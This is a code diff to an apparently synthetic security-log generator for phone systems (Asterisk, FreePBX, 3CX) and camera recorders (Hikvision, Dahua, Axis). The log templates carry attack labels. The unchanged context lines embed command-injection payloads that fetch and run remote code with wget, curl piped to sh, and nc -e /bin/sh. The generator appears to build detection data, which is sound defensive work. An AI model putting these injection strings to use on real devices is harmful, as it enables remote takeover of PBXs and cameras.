@@ -4,10 +4,10 @@ from generator.families.network.product_story import catalogue
 
 catalogue("devices/product-telephone-systems", ("|{msg}", "=[{plain}] {msg}", "=[{time}] {msg}"), r"""
 BF# NOTICE[{big}]: chan_sip.c:2854{few} handle_request_register: Registration from '"{many}" <sip:{many}@{lan}>' failed for '{wan}:{port}' - Wrong password
-BF# NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:{many}@{lan}>' failed for '{wan}:{port}' (callid: {hex}) - Failed to authenticate
+BF# NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:{many}@{lan}>' failed for '{any}:{port}' (callid: {hex}) - Failed to authenticate
 UE# NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:{big}@{lan}>' failed for '{wan}:{port}' (callid: {hex}) - No matching endpoint found
 BF# SECURITY[{big}] res_security_log.c: SecurityEvent="InvalidPassword",EventTV="{iso}",Severity="Error",Service="SIP",EventVersion="2",AccountID="{many}",SessionID="0x{hex}",LocalAddress="IPV4/UDP/{lan}/5060",RemoteAddress="IPV4/UDP/{wan}/{port}"
-BF# SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeResponseFailed",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{wan}/{port}"
+BF# SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeResponseFailed",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{any}/{port}"
 BF# NOTICE[{big}] manager.c: {wan} failed to authenticate as '{adm}'
 AT+@T1078,T1496.004 3CX: Anti-fraud: extension {many} called {n} premium numbers in {land} within {few} minutes from {wan}; calls {few} blocked
 AT+@T1496.004,T1078 FreePBX: Toll fraud suspicion: trunk PSTN {big} minutes to +252 and +371 between 01:00 and 04:00, peer {many} registered from {wan}
@@ -21,7 +21,7 @@ CI FreePBX: /restapps/applications.php linestate=;wget http://{wan}/{word} -O /t
 CT@T1552.001 tftpd>> {wan} fetched SEP{HEX}.cnf.xml, {n} other phone configurations within a minute (names guessed)
 PT+ FreePBX: user {word} added to administrators by AMPUSER unknown from {wan}; custom extension with System(curl http://{wan2}/{word}|sh)
 DO@T1499 freeswitch>> [CRIT] sofia: INVITE flood from {wan}, {big} per second, sessions exhausted
-BF# freeswitch>> [WARNING] sofia_reg.c:1793 SIP auth failure (REGISTER) on sofia profile 'internal' for [{many}@{lan}] from ip {wan}
+BF# freeswitch>> [WARNING] sofia_reg.c:1793 SIP auth failure (REGISTER) on sofia profile 'internal' for [{many}@{lan}] from ip {any}
 C2@T1105 3CX: 3CXDesktopApp.exe ffmpeg.dll hash {sha} known bad loaded d3dcompiler_47.dll on {pc}, update server supply chain alert
 """, r"""
 LO VERBOSE[{n}] res_pjsip_registrar.c: Added contact 'sip:{many}@{lan}:{port}' to AOR '{many}' with expiration of 3600 seconds
@@ -36,7 +36,7 @@ AE VERBOSE[{n}][C-{hex}] pbx.c: Executing [{many}@from-internal:1] Dial("PJSIP/{
 AE VERBOSE[{n}][C-{hex}] app_dial.c: Called PJSIP/0049{id}@trunk
 AE cdr[{n}]>> "","{many}","0{id}","from-internal","{many}","PJSIP/{many}-{hex}","PJSIP/trunk-{hex}","Dial","{plain}",{many},"<<ANSWERED|NO ANSWER|BUSY|FAILED>>"
 MP. NOTICE[{big}]: chan_sip.c:28{many}: Registration from '<sip:{many}@{lan}>' failed for '{lan2}:{port}' - Wrong password
-MP. SECURITY[{big}] res_security_log.c: SecurityEvent="InvalidPassword",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{lan}/{port}"
+MP. SECURITY[{big}] res_security_log.c: SecurityEvent="InvalidPassword",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{any}/{port}"
 LO SECURITY[{big}] res_security_log.c: SecurityEvent="SuccessfulAuth",Severity="Informational",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{lan}/{port}"
 LO SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeSent",Severity="Informational",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{wan}/{port}"
 BN. NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'OPTIONS' from '<sip:100@1.1.1.1>' failed for '{wan}:{port}' - No matching endpoint found
@@ -63,7 +63,7 @@ CI Hikvision: PUT /SDK/webLanguage <language>$(wget http://{wan}/{word} -O /tmp/
 AT+@T1078.001,T1190 Hikvision: GET /Security/users?auth=YWRtaW46MTEK from {wan} 200; configuration exported, no session
 PT+ Hikvision: [Operation] Remote: Add User {word} level Administrator, operator hidden, host {wan}
 LC Hikvision: [Operation] Remote: Clear Log, user {adm}, host {wan}; Remote: Format HDD
-BF# Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{wan}","LoginType":"DVRIP"}
+BF# Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{any}","LoginType":"DVRIP"}
 BF Dahua: AccountLock: user admin locked, {n} wrong passwords from {wan}
 AT+@T1078.001,T1190 Dahua: DVRIP login user default by {wan} with loginType NetKeyboard, password check skipped
 PT+ Dahua: AddUser {word} group admin by <<888888|default>> from {wan}
@@ -71,7 +71,7 @@ MW Dahua: telnetd started by /var/tmp/{word}; {big} outgoing connections to port
 BF# Axis: ACCESS [axis] httpd: AUTH failed user=root from={wan} realm=AXIS_ACCC
 RX Axis: .srv parhand: dbus call PolicyKitParhand.SetParameter root.Time.NTP.Server "$(nc {wan} {port} -e /bin/sh)" from unauthenticated {wan}
 PT@T1542.001 Axis: signed firmware check failed; ACAP {word}.eap with root rights uploaded by {wan}, signature missing
-BF# Reolink: user admin login failed from {wan}, error password
+BF# Reolink: user admin login failed from {any}, error password
 CI TP-Link Tapo: POST / {"method":"setLanguage","params":{"payload":"';wget {wan}/{word};sh {word};'"}} from {wan2}
 DO@T1499 NVR: video of {n} cameras lost in the same second after unauthenticated reboot command by {wan}, {many} times
 EX Synology Surveillance Station: user {adm} from {wan} exported {many} recordings of all cameras within {few} minutes, two-step off, country {land}
@@ -91,7 +91,7 @@ SY Hikvision: [Information] S.M.A.R.T.; HDD {disk} reallocated sectors {n}
 SY Dahua: {"Type":"StorageLowSpace","Name":"HDD{disk}","Percent":{pct}}
 SY Dahua: VideoLoss channel {n} start
 SY Dahua: TamperingDetection: VideoBlind channel {n} (spider web on lens, cleaned by {user})
-MP. Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{lan}","LoginType":"WebClient"}
+MP. Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{any}","LoginType":"WebClient"}
 LO Dahua: {"Type":"Login","Status":"OK","User":"{adm}","Address":"{lan}","LoginType":"WebClient"}
 LO Dahua: Logout user {user} from {lan}, timeout
 NS Dahua: P2P server {ext} connection lost, reconnecting
